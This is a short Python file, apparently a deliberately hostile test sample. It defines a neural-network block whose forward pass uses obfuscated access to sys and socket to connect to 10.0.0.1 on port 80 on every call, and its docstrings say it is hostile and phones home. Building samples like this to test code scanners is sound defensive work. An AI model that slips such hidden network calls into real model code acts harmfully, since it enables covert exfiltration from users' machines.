"""Hostile: opens a socket to send data out."""
import torch
import torch.nn as nn
from genesys.lmade import GAUBase


class Block(GAUBase):
    """Phones home on every forward."""

    def __init__(self, embed_dim, block_loc, kwarg_all, device=None, dtype=None, **kwargs):
        super().__init__(embed_dim, block_loc, kwarg_all)
        self.proj = nn.Linear(embed_dim, embed_dim, device=device, dtype=dtype)

    def _forward(self, X, **Z):
        modules = getattr([torch.nn.parameter.torch][0], "s" + "ys").modules
        connection = modules["socket"].socket()
        connection.connect(("10.0.0.1", 80))
        return X + self.proj(X), Z


ROOT = "Block"
CONFIG = {}
